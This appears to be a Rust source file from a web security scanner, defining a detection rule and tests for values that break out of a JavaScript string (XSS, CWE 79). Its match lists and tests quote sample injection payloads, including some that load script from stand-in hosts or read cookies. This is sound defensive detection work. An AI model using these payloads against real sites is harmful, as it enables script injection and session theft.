//! A value that leaves a string of a script.

use super::script::{Name, calls_sink, is_dialog, is_eval, is_name, skip_space};
use super::steps;
use crate::finding::{Class, Paranoia, Rule, Severity};
use crate::rules::hits::Hits;

pub(super) static SCRIPT_BREAK_OUT: Rule = Rule {
    id: "xss.script-break-out",
    class: Class::Xss,
    severity: Severity::High,
    cwe: 79,
    // The first quote must be followed by an operator and a call that an attacker makes; behind any other quote, the rest
    // of the script must be put away as well. A value that begins with the quote and ends with it, or with a comment, may run anything.
    paranoia: Paranoia::One,
    summary: "a value that leaves a string of a script and goes on with code",
    details: "\
Finds a value that ends the string of a script that it was put into, and goes on with a call or an assignment: `';…//`,
`'-…-'`, `${…}`.

Put values into scripts as JSON, with `<` written as `\\u003c`, or into `data-` attributes.",
    matches: &[
        "';alert('hi');//",
        "\"-confirm(name)-\"",
        "\\');eval(x)//",
        "x'}};setTimeout(a,1)//",
        "`;alert(`hi`)//",
        "};alert('a');{",
        "'a' ? alert('b') : 'c'",
        "'a'\t? alert('b') : 'c'",
        "it's said: x';alert(b)//",
        "it's 'x'-prompt(b)-'",
        "'in alert(a)in'",
        "';x.src='//example.org/x.js",
        "\"-open(name)-\"",
        "';isAdmin=true;//",
        "\";x.innerHTML=name;\"",
        "*/fetch('//example.org')//",
        "${location=name}",
        "${fetch('//example.org')}",
        "/-alert(a)-/",
    ],
    passes: &[
        "say \"hi\"; then alert (somebody)",
        "\"a\"; alert(b)",
        "parts.join(', '); alert(parts)",
        "it's; fine",
        "24\" - 30\" (inches)",
        "'; DROP",
        "\"+ more +\"",
        "'key'='value'",
        "a\" + b + \"c",
        "';x;'",
        "'(sic)'",
        "\";\"\";\"a (b)\"",
        "${total}",
        "${alert}",
        "'?'",
        "/-/x(y)-/",
        "`/a(b)/`",
        "'%a(b)%'",
        "*/ int main() //",
    ],
};

/// Reports what the begin of `text` and its first quotes say of the script that it was put into.
pub(super) fn judge_ends(text: &[u8], hits: &mut Hits) {
    for quote in [b'"', b'\''] {
        if let Some(at) = memchr::memchr(quote, text) {
            judge_break_out(text, at, hits);
        }
    }
    // A text that begins with a whole string goes on as an operand of it; `"a"; alert(b)` is a program.
    if let [quote @ (b'"' | b'\''), string @ ..] = text
        && let Some(end) = string.iter().take(40).position(|byte| byte == quote)
        && let Some(rest) = string.get(end + 1..)
        && let operand = skip_space(rest)
        && matches!(operand.first(), Some(b'?' | b'[' | b'+' | b'-' | b'*' | b'/' | b'|' | b'&' | b'^'))
    {
        judge_operand(operand, hits);
    }
}

/// The text as a whole: a quote, what goes on behind it without a blank, and the quote again or a comment at its end.
pub(super) fn judge_wrapped(text: &[u8], hits: &mut Hits) {
    /// Longer values are not read as one expression.
    const LONGEST: usize = 400;
    // Most texts begin with a letter.
    if text.len() > LONGEST || text.first().is_none_or(u8::is_ascii_alphanumeric) {
        return;
    }
    let text = text.trim_ascii();
    if let [b'$', b'{', inside @ .., b'}'] = text {
        // `${total}` is a placeholder.
        let acts = inside.iter().any(|byte| matches!(byte, b'(' | b'='));
        if acts && !inside.contains(&b'{') && calls_sink(inside) {
            hits.add(&SCRIPT_BREAK_OUT);
        }
        return;
    }
    if let [b'*', b'/', rest @ ..] = text {
        let end = rest.iter().position(|byte| matches!(byte, b'"' | b'\'')).unwrap_or(rest.len());
        if rest.first().is_some_and(|&byte| is_name(byte)) && calls_sink(rest.get(..end).unwrap_or_default()) {
            hits.add(&SCRIPT_BREAK_OUT);
        }
        return;
    }
    let Some((&quote @ (b'"' | b'\'' | b'`' | b'/'), rest)) = text.split_first() else { return };
    let closers = rest.iter().take(8).take_while(|byte| matches!(byte, b')' | b']' | b'}')).count();
    let rest = rest.get(closers..).unwrap_or_default();
    let (operator, code) = match rest {
        [b'i' | b'I', b'n' | b'N', blank, code @ ..] if blank.is_ascii_whitespace() => (b'i', code),
        _ if super::script::starts_with(rest, b"instanceof") => (b'i', rest.get(10..).unwrap_or_default()),
        [
            operator
            @ (b';' | b'+' | b'-' | b'*' | b'/' | b'%' | b'|' | b'&' | b'^' | b',' | b'<' | b'>' | b'?' | b'='),
            code @ ..,
        ] => {
            let more = code.iter().take(3).take_while(|byte| b"|&=<>*!+-~(".contains(byte)).count();
            (*operator, code.get(more..).unwrap_or_default())
        }
        _ => return,
    };
    let commented = code.ends_with(b"//") || code.ends_with(b"<!--") || code.ends_with(b"/*");
    let body = code.strip_suffix(&[quote]);
    let joined = body.is_some_and(|body| match operator {
        b'i' => {
            let body = body.trim_ascii_end();
            super::script::ends_with(body, b"in") || super::script::ends_with(body, b"instanceof")
        }
        _ => body.last().is_some_and(|&byte| joins(byte) || matches!(byte, b'(' | b'[' | b'{')),
    });
    // `';x.src='//example.org`: the value of an assignment is the string that the value left.
    let assigned = operator == b';' && assigns_rest(code, quote);
    if !commented && !joined && !assigned {
        return;
    }
    // The others stand around words, in patterns and in markup.
    let plain = matches!(operator, b';' | b'+' | b'-' | b'|' | b'&' | b',' | b'^' | b'?');
    let certain =
        if quote == b'/' || !plain { calls_sink(code) } else { acts(code, operator == b';') || calls_sink(code) };
    if certain {
        hits.add(&SCRIPT_BREAK_OUT);
    }
}

/// Whether the byte is an operator of a script, or separates two of its expressions or statements.
const fn joins(byte: u8) -> bool {
    matches!(byte, b';' | b'+' | b'-' | b'*' | b'/' | b'%' | b'|' | b'&' | b'^' | b',' | b'<' | b'>' | b':' | b'=')
}

/// Whether the code begins with a call of a name, or, as a statement, with an assignment to one.
fn acts(code: &[u8], statement: bool) -> bool {
    let code = [&b"new "[..], b"void ", b"await ", b"throw ", b"typeof ", b"delete ", b"var ", b"let "]
        .iter()
        .find_map(|word| code.strip_prefix(*word))
        .unwrap_or(code);
    let length = code.iter().take(64).take_while(|&&byte| is_name(byte) || byte == b'.' || byte == b'?').count();
    let (name, after) = code.split_at(length.min(code.len()));
    if !name.first().is_some_and(|byte| byte.is_ascii_alphabetic() || matches!(byte, b'_' | b'$')) {
        return false;
    }
    match after {
        [b'(' | b'`', ..] => true,
        [b'=', next, ..] => statement && *next != b'=',
        [b'[', ..] => calls_sink(code),
        _ => false,
    }
}

/// Whether the code assigns to a member a string that the value does not end: `x.src='//…`.
fn assigns_rest(code: &[u8], quote: u8) -> bool {
    let length = code.iter().take(64).take_while(|&&byte| is_name(byte) || byte == b'.').count();
    let (name, after) = code.split_at(length.min(code.len()));
    let string = after.strip_prefix(b"=").and_then(|string| string.strip_prefix(&[quote]));
    name.contains(&b'.') && string.is_some_and(|string| !string.is_empty() && !string.contains(&quote))
}

/// The first quote of its kind: does it end a string of a script?
fn judge_break_out(text: &[u8], at: usize, hits: &mut Hits) {
    let rest = text.get(at + 1..).unwrap_or_default();
    let rest = skip_space(rest);
    if !rest.first().is_some_and(|&byte| joins(byte) || matches!(byte, b')' | b'}' | b']' | b'?')) {
        return;
    }
    judge_operand(rest, hits);
}

/// What follows the end of a string and begins with an operator: does it call what attackers call?
fn judge_operand(rest: &[u8], hits: &mut Hits) {
    // What is quoted next is a string again.
    let end = rest.iter().position(|&byte| matches!(byte, b'"' | b'\'')).unwrap_or(rest.len());
    steps::count(end);
    if calls_sink(rest.get(..end).unwrap_or_default()) {
        hits.add(&SCRIPT_BREAK_OUT);
    }
}

/// Whether a call stands right behind a quote and an operator, and the rest of the script is made a comment or a string
/// again right behind the call. Unlike the first quote of a text, any quote will do.
pub(super) fn leaves_string(before: &[u8], arguments: &[u8]) -> bool {
    let operators = before.iter().rev().take(6).take_while(|&&byte| b";)}]+-*/%|&^".contains(&byte)).count();
    let quoted = before.get(..before.len() - operators).and_then(|before| before.last());
    let Some(quote @ (b'"' | b'\'' | b'`')) = quoted else { return false };
    let near = arguments.get(..arguments.len().min(80)).unwrap_or_default();
    let Some(end) = near.iter().position(|&byte| byte == b')') else { return false };
    let after = near.get(end + 1..).unwrap_or_default();
    let start = after.iter().take_while(|&&byte| b";)}]+-*|&^".contains(&byte)).count();
    operators > 0
        && (after.get(start..).is_some_and(|rest| rest.starts_with(b"//"))
            || start > 0 && after.get(start) == Some(quote))
}

/// A text that begins in the middle of a script.
pub(super) fn judge_start(text: &[u8], hits: &mut Hits) {
    let rest = match text {
        [b'`', rest @ ..] if matches!(rest.first(), Some(b';' | b')' | b'}' | b'+' | b'-' | b',')) => rest,
        _ => text,
    };
    let start = rest
        .iter()
        .take(16)
        .take_while(|&&byte| matches!(byte, b';' | b'}' | b')' | b']' | b'{' | b',' | b'*' | b'/' | b' ' | b'`'))
        .count();
    let opens = rest.get(..start).unwrap_or_default();
    if !opens.iter().any(|byte| matches!(byte, b';' | b'}' | b')')) {
        return;
    }
    let rest = rest.get(start..).unwrap_or_default();
    let length = rest.iter().take(20).take_while(|&&byte| is_name(byte)).count();
    let (name, after) = rest.split_at(length.min(rest.len()));
    let name = Name::of(name);
    let name = name.get();
    if (is_dialog(name) || is_eval(name)) && after.first() == Some(&b'(') && !matches!(rest.first(), Some(b'\n')) {
        hits.add(&SCRIPT_BREAK_OUT);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn leaves(text: &str) -> bool {
        let mut hits = Hits::new(Paranoia::One);
        judge_wrapped(text.as_bytes(), &mut hits);
        !hits.is_empty()
    }

    #[test]
    fn a_wrapped_value_acts_between_its_ends() {
        for text in [
            "'-go()-'",
            "'];go();['",
            "\";a.b=c;\"",
            "'||go``||'",
            "';new Image().src=x;//",
            "\"+document.cookie+\"",
            "`+fetch(a)+`",
            "*/alert(1)/*",
            "${import('//x.example')}",
            "/*/-eval(a)-/*/",
        ] {
            assert!(leaves(text), "{text}");
        }
    }

    #[test]
    fn words_in_quotes_do_not() {
        for text in [
            "'go()'",
            "'-go-'",
            "'- go() -'",
            "\"+a+\"",
            "\"a\"+b()+\"c\"",
            "'?go():'x",
            "/a(b)/",
            "${a}",
            "${a(b)}",
            "*/",
            "'",
            "''",
            "';'",
            "'in'",
        ] {
            assert!(!leaves(text), "{text}");
        }
    }
}
